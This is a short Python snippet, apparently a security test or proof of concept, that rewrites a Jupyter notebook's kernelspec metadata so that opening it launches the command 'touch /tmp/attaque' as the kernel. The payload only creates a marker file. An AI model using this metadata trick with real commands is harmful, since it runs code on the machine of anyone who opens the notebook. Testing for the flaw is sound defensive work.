"""Demande un noyau qui lance une commande."""

def change(notebook):
    notebook["metadata"]["kernelspec"] = {
        "name": "attaque", "argv": ["touch", "/tmp/attaque"], "language": "bash",
        "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}},
    }
